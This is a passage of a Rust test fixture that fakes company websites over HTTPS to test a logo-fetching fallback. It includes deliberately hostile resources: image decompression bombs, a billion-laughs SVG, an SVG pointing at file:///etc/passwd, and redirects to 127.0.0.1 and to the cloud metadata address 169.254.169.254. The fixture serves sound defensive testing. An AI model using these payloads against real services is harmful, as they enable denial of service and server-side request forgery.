//! A fake of companies' public websites over real HTTPS, for the website logo fallback.
//!
//! [`FakeWeb`] serves every host of [`HOSTS`] on one `127.0.0.1:0` address with a leaf
//! certificate from the shared [`TestCa`] (HTTP/1.1 and HTTP/2 by ALPN), routes on the Host header
//! or `:authority`, counts requests per (host, path), may delay every answer, and counts the body
//! bytes it produced for streamed answers. The app reaches it only through configuration:
//! [`FakeWeb::connect_to`] pins every host of [`HOSTS`]. A name NOT in [`HOSTS`] is not pinned, so
//! the app asks the fake DNS for it, which knows nothing about it (`icons-www.com`).
//!
//! The sites and what the website fallback should pick (see [`EXPECTED_PICKS`]); every image is
//! generated in code (deterministic bytes) with its own dominant colour ([`colors`]):
//!
//! | domain | what it serves | expected pick |
//! | --- | --- | --- |
//! | `icons-apple.com` | apple-touch-icon 180 (green), icon 32 (red), og:image JPEG (orange), `/favicon.ico` 16+32 (purple) | apple-touch-icon |
//! | `icons-svg.com` | only an SVG icon (teal), `/favicon.ico` 404 | the SVG |
//! | `icons-manifest.com` | `<base href>` + only a web app manifest: icons 48 (slate), 192 and 512 (navy) | the 512 manifest icon (192 acceptable) |
//! | `icons-og.com` | only og:image JPEG 1200×630 (maroon), `/favicon.ico` 404 | og:image |
//! | `icons-favicon.com` | no links; `/favicon.ico` 16+32 (olive) + 48 (gold) | favicon, its 48 entry |
//! | `icons-none.com` | no icons, `/favicon.ico` 404 | none |
//! | `icons-www.com` | apex NOT served and NOT pinned; `www.` has an apple-touch-icon (brown) | apple-touch from www |
//! | `icons-hostile.com` | every candidate hostile except `/favicon.ico` (silver) | the favicon |
//! | `icons-redirect.com` | apex 302 → `https://127.0.0.1/`, www 301 → `http://169.254.169.254/…` | none, nothing contacted |
//! | `icons-bigpage.com` | `/` (apex and www) is a 3 MiB stream, icon link after 2 MiB | none |
//!
//! `icons-hostile.com`, in page order: apple-touch-icon = a PNG DECLARING 100000×100000 (valid
//! signature and IHDR, 1 KiB of data); `icon sizes=192x192 type=image/png` = an HTML page served as
//! `image/png`; an SVG icon with `<script>` whose only drawables are `<image>`s pointing at
//! `file:///etc/passwd` (rendered safely it draws NOTHING: a fully transparent raster, which must
//! count as no logo); a billion-laughs SVG (usvg refuses the entity loop); a GIF of 10 000 valid
//! 1×1 frames on a 65535×65535 logical screen (DECIDED: invalid, not ranked last — its first frame
//! is fine but the canvas fails any image limit, `image`'s default 512 MiB allocation limit
//! included, so the expected pick does not depend on ranking); the manifest's 512 icon = a JPEG cut
//! inside its Huffman tables (NOTE: `image`/zune-jpeg happily decode a JPEG cut inside its scan
//! data, padding it, so the cut is in the headers, where no decoder can get pixels); og:image = a
//! 20 MiB body streamed without Content-Length (chunked); finally `/favicon.ico` is a valid ICO.
//!
//! `images.evil-cdn.com` ([`EVIL_CDN_HOST`]) is served too: the `cdn-elsewhere.com` tenant's
//! banner logo points at it, and the app must never fetch it — a test asserts zero requests.
//!
//! [`images`] holds the image generators, shared with the fake Microsoft branding CDN.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::path::Path;
use std::sync::{Arc, Mutex, MutexGuard};
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::extract::{Request, State};
use axum::http::{HeaderValue, Method, StatusCode, Version, header};
use axum::response::{IntoResponse, Response};
use bytes::Bytes;
use tokio::task::JoinHandle;

use super::test_ca::{TestCa, request_host};
use super::upstream_fault::Fault;
use images::Rgb;

/// The host the `cdn-elsewhere.com` tenant's banner logo points at (not a Microsoft CDN host).
pub const EVIL_CDN_HOST: &str = "images.evil-cdn.com";
/// The logo on [`EVIL_CDN_HOST`] (a valid PNG: fetching it is the bug, not decoding it).
pub const EVIL_CDN_LOGO: &str = "https://images.evil-cdn.com/logo.png";

/// The site domains, in the order of the table above.
pub const SITES: [&str; 10] = [
    "icons-apple.com",
    "icons-svg.com",
    "icons-manifest.com",
    "icons-og.com",
    "icons-favicon.com",
    "icons-none.com",
    "icons-www.com",
    "icons-hostile.com",
    "icons-redirect.com",
    "icons-bigpage.com",
];

/// Every host served, named by the certificate and pinned by [`FakeWeb::connect_to`]. The apex
/// `icons-www.com` is deliberately absent.
pub const HOSTS: [&str; 20] = [
    "icons-apple.com",
    "www.icons-apple.com",
    "icons-svg.com",
    "www.icons-svg.com",
    "icons-manifest.com",
    "www.icons-manifest.com",
    "icons-og.com",
    "www.icons-og.com",
    "icons-favicon.com",
    "www.icons-favicon.com",
    "icons-none.com",
    "www.icons-none.com",
    "www.icons-www.com",
    "icons-hostile.com",
    "www.icons-hostile.com",
    "icons-redirect.com",
    "www.icons-redirect.com",
    "icons-bigpage.com",
    "www.icons-bigpage.com",
    EVIL_CDN_HOST,
];

/// The dominant colour of every generated image (sRGB), so tests can tell which one was picked.
pub mod colors {
    use super::Rgb;

    /// `icons-apple.com` apple-touch-icon (180×180, opaque).
    pub const APPLE_TOUCH: Rgb = [0x2E, 0x9E, 0x44];
    /// `icons-apple.com` `icon sizes=32x32` PNG.
    pub const APPLE_ICON_32: Rgb = [0xD6, 0x28, 0x28];
    /// `icons-apple.com` og:image JPEG.
    pub const APPLE_OG: Rgb = [0xF7, 0x7F, 0x00];
    /// `icons-apple.com` `/favicon.ico` (16 and 32).
    pub const APPLE_FAVICON: Rgb = [0x7B, 0x2C, 0xBF];
    /// `icons-svg.com` SVG logo.
    pub const SVG: Rgb = [0x0D, 0x94, 0x88];
    /// `icons-manifest.com` 48×48 manifest icon.
    pub const MANIFEST_48: Rgb = [0x94, 0xA3, 0xB8];
    /// `icons-manifest.com` 192×192 and 512×512 manifest icons.
    pub const MANIFEST_LARGE: Rgb = [0x1E, 0x2A, 0x78];
    /// `icons-og.com` og:image JPEG.
    pub const OG: Rgb = [0x80, 0x00, 0x20];
    /// `icons-favicon.com` `/favicon.ico` 16 and 32 entries.
    pub const FAVICON_SMALL: Rgb = [0x6B, 0x8E, 0x23];
    /// `icons-favicon.com` `/favicon.ico` 48 entry (the largest).
    pub const FAVICON_48: Rgb = [0xD4, 0xA0, 0x17];
    /// `www.icons-www.com` apple-touch-icon.
    pub const WWW_APPLE_TOUCH: Rgb = [0x8B, 0x45, 0x13];
    /// `icons-hostile.com` `/favicon.ico` (the only valid candidate).
    pub const HOSTILE_FAVICON: Rgb = [0xC0, 0xC0, 0xC0];
    /// `icons-hostile.com` GIF frames (never a valid pick: see the module docs).
    pub const HOSTILE_GIF: Rgb = [0xFF, 0x00, 0xFF];
    /// `icons-bigpage.com` icon linked after 2 MiB (picking it means reading past the cap).
    pub const BIGPAGE_LATE_ICON: Rgb = [0xFF, 0x14, 0x93];
    /// [`super::EVIL_CDN_LOGO`] (picking it means fetching outside the CDN allow-list).
    pub const EVIL_CDN: Rgb = [0x39, 0xFF, 0x14];
}

/// Width = height of the `icons-apple.com` and `www.icons-www.com` apple-touch-icons.
pub const APPLE_TOUCH_SIZE: u32 = 180;
/// Width and height of the og:image JPEGs.
pub const OG_SIZE: (u32, u32) = (1200, 630);
/// The `icons-manifest.com` manifest icon sizes.
pub const MANIFEST_ICON_SIZES: [u32; 3] = [48, 192, 512];
/// The `icons-favicon.com` ICO entries.
pub const FAVICON_ICO_SIZES: [u32; 3] = [16, 32, 48];
/// The SVG logo's viewBox size (`0 0 64 64`).
pub const SVG_VIEWBOX: u32 = 64;
/// What the hostile PNGs declare.
pub const BOMB_PNG_SIZE: (u32, u32) = (100_000, 100_000);
/// The size of the hostile og:image and CDN illustration bodies.
pub const HUGE_BODY_BYTES: usize = 20 * 1024 * 1024;
/// Frames in the hostile GIF.
pub const GIF_FRAMES: usize = 10_000;
/// The size of the `icons-bigpage.com` home page (at least this many bytes).
pub const BIGPAGE_BYTES: usize = 3 * 1024 * 1024;
/// The late icon link of `icons-bigpage.com` starts after this many bytes.
pub const BIGPAGE_ICON_AFTER: usize = 2 * 1024 * 1024;

/// What the website fallback should end up with for one domain.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Pick {
    /// The domain typed.
    pub domain: &'static str,
    /// The URL of the image that should win, or `None` when the domain should get no logo.
    pub url: Option<&'static str>,
    /// Its dominant colour.
    pub color: Option<Rgb>,
    /// Its natural size in pixels (for an SVG: its viewBox; for an ICO: the largest entry).
    pub size: Option<(u32, u32)>,
}

/// The expected pick of every site, in the order of [`SITES`].
pub const EXPECTED_PICKS: [Pick; 10] = [
    Pick {
        domain: "icons-apple.com",
        url: Some("https://icons-apple.com/apple-touch-icon.png"),
        color: Some(colors::APPLE_TOUCH),
        size: Some((APPLE_TOUCH_SIZE, APPLE_TOUCH_SIZE)),
    },
    Pick {
        domain: "icons-svg.com",
        url: Some("https://icons-svg.com/logo.svg"),
        color: Some(colors::SVG),
        size: Some((SVG_VIEWBOX, SVG_VIEWBOX)),
    },
    Pick {
        domain: "icons-manifest.com",
        url: Some("https://icons-manifest.com/static/icons/icon-512.png"),
        color: Some(colors::MANIFEST_LARGE),
        size: Some((512, 512)),
    },
    Pick {
        domain: "icons-og.com",
        url: Some("https://icons-og.com/images/social-share.jpg"),
        color: Some(colors::OG),
        size: Some(OG_SIZE),
    },
    Pick {
        domain: "icons-favicon.com",
        url: Some("https://icons-favicon.com/favicon.ico"),
        color: Some(colors::FAVICON_48),
        size: Some((48, 48)),
    },
    Pick {
        domain: "icons-none.com",
        url: None,
        color: None,
        size: None,
    },
    Pick {
        domain: "icons-www.com",
        url: Some("https://www.icons-www.com/apple-touch-icon.png"),
        color: Some(colors::WWW_APPLE_TOUCH),
        size: Some((APPLE_TOUCH_SIZE, APPLE_TOUCH_SIZE)),
    },
    Pick {
        domain: "icons-hostile.com",
        url: Some("https://icons-hostile.com/favicon.ico"),
        color: Some(colors::HOSTILE_FAVICON),
        size: Some((32, 32)),
    },
    Pick {
        domain: "icons-redirect.com",
        url: None,
        color: None,
        size: None,
    },
    Pick {
        domain: "icons-bigpage.com",
        url: None,
        color: None,
        size: None,
    },
];

/// The expected pick for `domain`.
pub fn expected_pick(domain: &str) -> Option<Pick> {
    EXPECTED_PICKS
        .iter()
        .find(|pick| pick.domain.eq_ignore_ascii_case(domain))
        .copied()
}

/// One request as the fake received it.
#[derive(Clone, Debug)]
pub struct WebRequest {
    /// Host name (lower-case, without port).
    pub host: String,
    /// HTTP method.
    pub method: Method,
    /// Path and query as sent.
    pub path_and_query: String,
    /// HTTP version (HTTP/1.1 or HTTP/2).
    pub version: Version,
    /// The User-Agent header, if any.
    pub user_agent: Option<String>,
}

#[derive(Default)]
struct Shared {
    counts: HashMap<(String, String), usize>,
    streamed: HashMap<(String, String), u64>,
    log: Vec<WebRequest>,
    delay: Duration,
    faults: HashMap<String, Fault>,
}

type SharedState = Arc<Mutex<Shared>>;

fn lock(state: &Mutex<Shared>) -> MutexGuard<'_, Shared> {
    state
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
}

/// A running fake of the company websites; stops when dropped.
pub struct FakeWeb {
    addr: SocketAddr,
    state: SharedState,
    ca: TestCa,
    server: JoinHandle<()>,
}

impl std::fmt::Debug for FakeWeb {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("FakeWeb")
            .field("addr", &self.addr)
            .finish_non_exhaustive()
    }
}

impl FakeWeb {
    /// Start with a CA of its own (see [`FakeWeb::ca_pem_path`]).
    pub async fn start() -> Self {
        Self::start_with_ca(&TestCa::named("authwalk fake web test CA")).await
    }

    /// Start with a leaf certificate from `ca` for every host of [`HOSTS`].
    pub async fn start_with_ca(ca: &TestCa) -> Self {
        let state = SharedState::default();
        let router = Router::new().fallback(handle).with_state(state.clone());
        let (addr, server) = ca.serve(&HOSTS, router).await;
        Self {
            addr,
            state,
            ca: ca.clone(),
            server,
        }
    }

    /// Where it listens (every host is served on this one address).
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// The CA that signed its certificate.
    pub fn ca(&self) -> &TestCa {
        &self.ca
    }

    /// The CA's PEM file, for `AUTHWALK_EXTRA_CA`.
    pub fn ca_pem_path(&self) -> &Path {
        self.ca.pem_path()
    }

    /// The CA as PEM text.
    pub fn ca_pem(&self) -> &str {
        self.ca.pem()
    }

    /// `host=127.0.0.1:P` for every host of [`HOSTS`], comma-separated, for `AUTHWALK_CONNECT_TO`.
    pub fn connect_to(&self) -> String {
        HOSTS
            .iter()
            .map(|host| format!("{host}={}", self.addr))
            .collect::<Vec<_>>()
            .join(",")
    }

    /// Requests received for `path` (without query) on `host` (case-insensitive).
    pub fn requests(&self, host: &str, path: &str) -> usize {
        let key = (normalise_host(host), path.to_owned());
        lock(&self.state).counts.get(&key).copied().unwrap_or(0)
    }

    /// Requests received for `url` (its host and path; the query is ignored).
    pub fn requests_for(&self, url: &str) -> usize {
        url::Url::parse(url).map_or(0, |url| {
            self.requests(url.host_str().unwrap_or_default(), url.path())
        })
    }

    /// Requests received on `host`, any path.
    pub fn requests_on(&self, host: &str) -> usize {
        let host = normalise_host(host);
        lock(&self.state)
            .counts
            .iter()
            .filter(|((counted, _), _)| *counted == host)
            .map(|(_, count)| count)
            .sum()
    }

    /// Requests received on `domain` and `www.{domain}` together.
    pub fn requests_for_site(&self, domain: &str) -> usize {
        let domain = normalise_host(domain);
        let apex = domain.strip_prefix("www.").unwrap_or(&domain).to_owned();
        self.requests_on(&apex) + self.requests_on(&format!("www.{apex}"))
    }

    /// Requests received in all.
    pub fn total_requests(&self) -> usize {
        lock(&self.state).counts.values().sum()
    }

    /// Body bytes produced so far for streamed answers to `path` on `host` (the 20 MiB bodies and
    /// the big page). Bytes may sit in socket and HTTP/2 buffers: this bounds what a client read.
    pub fn bytes_streamed(&self, host: &str, path: &str) -> u64 {
        let key = (normalise_host(host), path.to_owned());
        lock(&self.state).streamed.get(&key).copied().unwrap_or(0)
    }

    /// Every request received since start (or the last [`FakeWeb::reset_counts`]), in order.
    pub fn recorded(&self) -> Vec<WebRequest> {
        lock(&self.state).log.clone()
    }

    /// Make every answer wait `delay` first (zero: no delay).
    pub fn set_delay(&self, delay: Duration) {
        lock(&self.state).delay = delay;
    }

    /// Make every request to `host` (any path) get `fault` instead of its answer, until
    /// [`FakeWeb::clear_fault`]. The request is still counted and delayed first.
    pub fn set_fault(&self, host: &str, fault: Fault) {
        lock(&self.state).faults.insert(normalise_host(host), fault);
    }

    /// Answer `host` normally again after [`FakeWeb::set_fault`].
    pub fn clear_fault(&self, host: &str) {
        lock(&self.state).faults.remove(&normalise_host(host));
    }

    /// Forget every count, streamed byte and recorded request (the delay stays).
    pub fn reset_counts(&self) {
        let mut state = lock(&self.state);
        state.counts.clear();
        state.streamed.clear();
        state.log.clear();
    }
}

impl Drop for FakeWeb {
    fn drop(&mut self) {
        // Dropping the accept task drops its JoinSet, which aborts every open connection.
        self.server.abort();
    }
}

fn normalise_host(host: &str) -> String {
    host.trim_end_matches('.').to_ascii_lowercase()
}

// ---------------------------------------------------------------------------------------------
// Routing
// ---------------------------------------------------------------------------------------------

async fn handle(State(state): State<SharedState>, request: Request) -> Response {
    let host = request_host(&request);
    let path = request.uri().path().to_owned();
    let (delay, fault) = {
        let mut shared = lock(&state);
        *shared
            .counts
            .entry((host.clone(), path.clone()))
            .or_default() += 1;
        shared.log.push(WebRequest {
            host: host.clone(),
            method: request.method().clone(),
            path_and_query: request
                .uri()
                .path_and_query()
                .map(|pq| pq.as_str().to_owned())
                .unwrap_or_default(),
            version: request.version(),
            user_agent: request
                .headers()
                .get(header::USER_AGENT)
                .and_then(|value| value.to_str().ok())
                .map(str::to_owned),
        });
        (shared.delay, shared.faults.get(&host).cloned())
    };
    if !delay.is_zero() {
        tokio::time::sleep(delay).await;
    }
    if let Some(fault) = fault {
        let target = request
            .uri()
            .path_and_query()
            .map_or_else(|| path.clone(), |pq| pq.as_str().to_owned());
        return with_server_headers(fault.respond(&target).await);
    }
    if !matches!(*request.method(), Method::GET | Method::HEAD) {
        return with_server_headers(
            (
                StatusCode::METHOD_NOT_ALLOWED,
                [(header::ALLOW, "GET, HEAD")],
                "",
            )
                .into_response(),
        );
    }
    let counter = StreamCounter {
        state: state.clone(),
        key: (host.clone(), path.clone()),
    };
    with_server_headers(route(&host, &path).into_response_with(Some(counter)))
}

/// What one (host, path) answers.
enum Resource {
    /// A complete HTML page.
    Html(&'static str),
    /// Complete bytes of a media type, cacheable.
    Bytes(&'static str, &'static [u8]),
    /// A streamed body without Content-Length.
    Stream(&'static str, Vec<Part>),
    /// A redirect.
    Redirect(StatusCode, &'static str),
    /// Nothing here.
    NotFound,
}

impl Resource {
    fn into_response_with(self, counter: Option<StreamCounter>) -> Response {
        match self {
            Self::Html(body) => (
                StatusCode::OK,
                [
                    (header::CONTENT_TYPE, "text/html; charset=utf-8"),
                    (header::CACHE_CONTROL, "max-age=0, must-revalidate"),
                    (header::VARY, "Accept-Encoding"),
                ],
                body,
            )
                .into_response(),
            Self::Bytes(content_type, body) => (
                StatusCode::OK,
                [
                    (header::CONTENT_TYPE, content_type),
                    (header::CACHE_CONTROL, "public, max-age=604800"),
                    (header::ACCEPT_RANGES, "bytes"),
                ],
                Bytes::from_static(body),
            )
                .into_response(),
            Self::Stream(content_type, parts) => (
                StatusCode::OK,
                [
                    (header::CONTENT_TYPE, content_type),
                    (header::CACHE_CONTROL, "no-cache"),
                ],
                streamed_body(parts, counter),
            )
                .into_response(),
            Self::Redirect(status, location) => {
                let title = status.canonical_reason().unwrap_or("Redirect");
                (
                    status,
                    [
                        (header::LOCATION, location),
                        (header::CONTENT_TYPE, "text/html; charset=utf-8"),
                    ],
                    format!(
                        "<html>\r\n<head><title>{code} {title}</title></head>\r\n<body>\r\n\
                         <center><h1>{code} {title}</h1></center>\r\n<hr><center>nginx</center>\r\n\
                         </body>\r\n</html>\r\n",
                        code = status.as_u16()
                    ),
                )
                    .into_response()
            }
            Self::NotFound => (
                StatusCode::NOT_FOUND,
                [(header::CONTENT_TYPE, "text/html; charset=utf-8")],
                NOT_FOUND_HTML,
            )
                .into_response(),
        }
    }
}

fn with_server_headers(mut response: Response) -> Response {
    let headers = response.headers_mut();
    headers.insert(header::SERVER, HeaderValue::from_static("nginx"));
    headers.insert(
        header::STRICT_TRANSPORT_SECURITY,
        HeaderValue::from_static("max-age=63072000"),
    );
    headers.insert(
        header::X_CONTENT_TYPE_OPTIONS,
        HeaderValue::from_static("nosniff"),
    );
    response
}

const NOT_FOUND_HTML: &str = "<html>\r\n<head><title>404 Not Found</title></head>\r\n<body>\r\n\
    <center><h1>404 Not Found</h1></center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n";

const PNG: &str = "image/png";
const JPEG: &str = "image/jpeg";
const ICO: &str = "image/x-icon";
const SVG: &str = "image/svg+xml";
const MANIFEST: &str = "application/manifest+json";

fn route(host: &str, path: &str) -> Resource {
    use Resource::{Bytes, Html, NotFound, Redirect};
    let www = host.starts_with("www.");
    let site = host.strip_prefix("www.").unwrap_or(host);
    match (site, path) {
        (EVIL_CDN_HOST, "/logo.png") => Bytes(PNG, images::asset(images::Asset::EvilCdnLogo)),

        ("icons-apple.com", "/") => Html(APPLE_HTML),
        ("icons-apple.com", "/apple-touch-icon.png") => {
            Bytes(PNG, images::asset(images::Asset::AppleTouch))
        }
        ("icons-apple.com", "/favicon-32.png") => Bytes(PNG, images::asset(images::Asset::Apple32)),
        ("icons-apple.com", "/og.jpg") => Bytes(JPEG, images::asset(images::Asset::AppleOg)),
        ("icons-apple.com", "/favicon.ico") => {
            Bytes(ICO, images::asset(images::Asset::AppleFavicon))
        }

        ("icons-svg.com", "/") => Html(SVG_HTML),
        ("icons-svg.com", "/logo.svg") => Bytes(SVG, images::SVG_LOGO.as_bytes()),

        ("icons-manifest.com", "/") => Html(MANIFEST_HTML),
        ("icons-manifest.com", "/static/site.webmanifest") => {
            Bytes(MANIFEST, MANIFEST_JSON.as_bytes())
        }
        ("icons-manifest.com", "/static/icons/icon-48.png") => {
            Bytes(PNG, images::asset(images::Asset::Manifest48))
        }
        ("icons-manifest.com", "/static/icons/icon-192.png") => {
            Bytes(PNG, images::asset(images::Asset::Manifest192))
        }
        ("icons-manifest.com", "/static/icons/icon-512.png") => {
            Bytes(PNG, images::asset(images::Asset::Manifest512))
        }

        ("icons-og.com", "/") => Html(OG_HTML),
        ("icons-og.com", "/images/social-share.jpg") => {
            Bytes(JPEG, images::asset(images::Asset::Og))
        }

        ("icons-favicon.com", "/") => Html(FAVICON_HTML),
        ("icons-favicon.com", "/favicon.ico") => Bytes(ICO, images::asset(images::Asset::Favicon)),

        ("icons-none.com", "/") => Html(NONE_HTML),

        ("icons-www.com", "/") if www => Html(WWW_HTML),
        ("icons-www.com", "/apple-touch-icon.png") if www => {
            Bytes(PNG, images::asset(images::Asset::WwwAppleTouch))
        }

        ("icons-hostile.com", "/") => Html(HOSTILE_HTML),
        ("icons-hostile.com", "/apple-touch-icon.png") => {
            Bytes(PNG, images::asset(images::Asset::BombPng))
        }
        ("icons-hostile.com", "/icons/icon-192.png") => Bytes(PNG, HTML_AS_IMAGE.as_bytes()),
        ("icons-hostile.com", "/icons/logo-script.svg") => {
            Bytes(SVG, images::SCRIPT_SVG.as_bytes())
        }
        ("icons-hostile.com", "/icons/logo-laughs.svg") => {
            Bytes(SVG, images::BILLION_LAUGHS_SVG.as_bytes())
        }
        ("icons-hostile.com", "/icons/spinner.gif") => {
            Bytes("image/gif", images::asset(images::Asset::GifBomb))
        }
        ("icons-hostile.com", "/manifest.json") => Bytes(MANIFEST, HOSTILE_MANIFEST.as_bytes()),
        ("icons-hostile.com", "/icons/icon-512.jpg") => {
            Bytes(JPEG, images::asset(images::Asset::TruncatedJpeg))
        }
        ("icons-hostile.com", "/og/share.jpg") => Resource::Stream(JPEG, huge_jpeg_parts()),
        ("icons-hostile.com", "/favicon.ico") => {
            Bytes(ICO, images::asset(images::Asset::HostileFavicon))
        }

        ("icons-redirect.com", _) if www => Redirect(
            StatusCode::MOVED_PERMANENTLY,
            "http://169.254.169.254/latest/meta-data/",
        ),
        ("icons-redirect.com", _) => Redirect(StatusCode::FOUND, "https://127.0.0.1/"),

        ("icons-bigpage.com", "/") => Resource::Stream("text/html; charset=utf-8", bigpage_parts()),
        ("icons-bigpage.com", "/late-icon.png") => {
            Bytes(PNG, images::asset(images::Asset::BigpageLateIcon))
        }

        _ => NotFound,
    }
}

// ---------------------------------------------------------------------------------------------
// Streamed bodies
// ---------------------------------------------------------------------------------------------

/// A piece of a streamed body.
#[derive(Clone, Debug)]
pub enum Part {
    /// These bytes once.
    Once(Bytes),
    /// `unit` repeated `times` times (sent in chunks of about 64 KiB).
    Repeat {
        /// The repeated bytes.
        unit: &'static [u8],
        /// How many times.
        times: usize,
    },
}

impl Part {
    /// The number of bytes this part produces.
    pub fn len(&self) -> usize {
        match self {
            Self::Once(bytes) => bytes.len(),
            Self::Repeat { unit, times } => unit.len() * times,
        }
    }

    /// Whether it produces nothing.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

/// Where the bytes produced for one streamed answer are counted.
struct StreamCounter {
    state: SharedState,
    key: (String, String),
}

const CHUNK: usize = 64 * 1024;

/// A body that produces `parts` lazily, chunk by chunk, never holding the whole in memory; what it
/// produced is added to `counter` as it goes.
fn streamed_body(parts: Vec<Part>, counter: Option<StreamCounter>) -> Body {
    let chunks = parts
        .into_iter()
        .flat_map(|part| -> Box<dyn Iterator<Item = Bytes> + Send> {
            match part {
                Part::Once(bytes) => Box::new(std::iter::once(bytes)),
                Part::Repeat { unit, times } => {
                    let per_chunk = (CHUNK / unit.len().max(1)).max(1);
                    let block = Bytes::from(unit.repeat(per_chunk));
                    let full = times / per_chunk;
                    let rest = times % per_chunk;
                    Box::new(
                        std::iter::repeat_n(block.clone(), full)
                            .chain((rest > 0).then(|| block.slice(..rest * unit.len()))),
                    )
                }
            }
        });
    let stream = futures_util::stream::iter(chunks.map(move |chunk| {
        if let Some(counter) = &counter {
            *lock(&counter.state)
                .streamed
                .entry(counter.key.clone())
                .or_default() += chunk.len() as u64;
        }
        Ok::<_, std::convert::Infallible>(chunk)
    }));
    Body::from_stream(stream)
}

/// A body of `parts` with no counting, for other fakes (the caller sets Content-Length if wanted).
pub fn stream_parts(parts: Vec<Part>) -> Body {
    streamed_body(parts, None)
}

static ZEROS: [u8; 4096] = [0; 4096];

/// A JPEG start (SOI, JFIF APP0) followed by zeros, [`HUGE_BODY_BYTES`] in all.
pub fn huge_jpeg_parts() -> Vec<Part> {
    let head: &[u8] = &[
        0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, b'J', b'F', b'I', b'F', 0x00, 0x01, 0x01, 0x00, 0x00,
        0x48, 0x00, 0x48, 0x00, 0x00,
    ];
    let rest = HUGE_BODY_BYTES - head.len();
    vec![
        Part::Once(Bytes::from_static(head)),
        Part::Repeat {
            unit: &ZEROS,
            times: rest / ZEROS.len(),
        },
        Part::Once(Bytes::from(vec![0u8; rest % ZEROS.len()])),
    ]
}

const BIGPAGE_HEAD: &str = r#"<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Bigpage Outlet | Everything must go</title>
<meta name="description" content="Thousands of clearance deals, all on one page.">
<link rel="preload" href="/_next/static/media/inter.woff2" as="font" type="font/woff2" crossorigin>
<link rel="stylesheet" href="/_next/static/css/7f3a1c2e9b.css">
<script src="/_next/static/chunks/webpack-4b2d8e.js" defer></script>
<script src="/_next/static/chunks/main-app-91c0aa.js" defer></script>
<script id="__NEXT_DATA__" type="application/json">{"props":{"pageProps":{"products":["#;
const BIGPAGE_PRODUCT_JSON: &str = r#"{"sku":"BP-104729","name":"Clearance item","price":"9.99","currency":"USD","inStock":true,"badges":["sale","last-chance"]},"#;
const BIGPAGE_MIDDLE: &str = r#"{"sku":"BP-END"}]}},"page":"/","buildId":"b1gp4g3"}</script>
<link rel="apple-touch-icon" href="/late-icon.png">
<link rel="icon" type="image/png" sizes="192x192" href="/late-icon.png">
</head>
<body>
<main id="__next">
"#;
const BIGPAGE_PRODUCT_HTML: &str = "<div class=\"product\"><h2>Clearance item</h2><p class=\"price\">$9.99</p><a href=\"/p/BP-104729\">View</a></div>\n";
const BIGPAGE_TAIL: &str = "</main>\n</body>\n</html>\n";

/// The `icons-bigpage.com` home page: the icon links start after [`BIGPAGE_ICON_AFTER`] bytes
/// (inside a huge inline `__NEXT_DATA__` script in the head), [`BIGPAGE_BYTES`] or a little more
/// in all.
pub fn bigpage_parts() -> Vec<Part> {
    let json_times = (BIGPAGE_ICON_AFTER - BIGPAGE_HEAD.len()) / BIGPAGE_PRODUCT_JSON.len() + 1;
    let before_body =
        BIGPAGE_HEAD.len() + json_times * BIGPAGE_PRODUCT_JSON.len() + BIGPAGE_MIDDLE.len();
    let html_times =
        (BIGPAGE_BYTES - before_body - BIGPAGE_TAIL.len()) / BIGPAGE_PRODUCT_HTML.len() + 1;
    vec![
        Part::Once(Bytes::from_static(BIGPAGE_HEAD.as_bytes())),
        Part::Repeat {
            unit: BIGPAGE_PRODUCT_JSON.as_bytes(),
            times: json_times,
        },
        Part::Once(Bytes::from_static(BIGPAGE_MIDDLE.as_bytes())),
        Part::Repeat {
            unit: BIGPAGE_PRODUCT_HTML.as_bytes(),
            times: html_times,
        },
        Part::Once(Bytes::from_static(BIGPAGE_TAIL.as_bytes())),
    ]
}

// ---------------------------------------------------------------------------------------------
// Pages
// ---------------------------------------------------------------------------------------------

const APPLE_HTML: &str = r##"<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <meta http-equiv="x-ua-compatible" content="ie=edge">
  <meta name="viewport" content="width=device-width, initial-scale=1, viewport-fit=cover">
  <title>Icons Apple | Fresh produce, delivered</title>
  <meta name="description" content="Icons Apple grows and delivers fresh fruit to offices across the country.">
  <meta name="theme-color" content="#2E9E44">
  <link rel="canonical" href="https://icons-apple.com/">
  <link rel="preconnect" href="https://fonts.gstatic.com" crossorigin>
  <link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter:wght@400;600&display=swap">
  <link rel="stylesheet" href="/assets/css/main.3f9a2c.css">
  <link rel="apple-touch-icon" href="/apple-touch-icon.png">
  <link rel="icon" href="/favicon-32.png" sizes="32x32">
  <meta property="og:type" content="website">
  <meta property="og:site_name" content="Icons Apple">
  <meta property="og:title" content="Icons Apple | Fresh produce, delivered">
  <meta property="og:url" content="https://icons-apple.com/">
  <meta property="og:image" content="https://icons-apple.com/og.jpg">
  <meta name="twitter:card" content="summary_large_image">
  <script async src="https://www.googletagmanager.com/gtag/js?id=G-XXXXXXX"></script>
  <script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','G-XXXXXXX');</script>
  <script src="/assets/js/app.8c1d07.js" defer></script>
</head>
<body class="home">
  <header class="site-header"><a href="/" class="logo" aria-label="Icons Apple home"></a>
    <nav><a href="/about">About</a> <a href="/orchards">Orchards</a> <a href="/contact">Contact</a></nav>
  </header>
  <main><h1>Fresh produce, delivered</h1><p>Crisp apples from our orchards to your office every Monday.</p></main>
  <footer><p>&copy; 2025 Icons Apple Ltd.</p></footer>
</body>
</html>
"##;

const SVG_HTML: &str = r##"<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Icons SVG — Vector tooling for teams</title>
<meta name="description" content="Design systems and vector tooling.">
<link rel="icon" type="image/svg+xml" href="/logo.svg">
<link rel="stylesheet" href="/_astro/index.C2x9Fq1a.css">
<script type="module" src="/_astro/hoisted.Bq3uTz0k.js"></script>
</head>
<body>
<header><nav><a href="/">Home</a><a href="/docs/">Docs</a><a href="/pricing/">Pricing</a></nav></header>
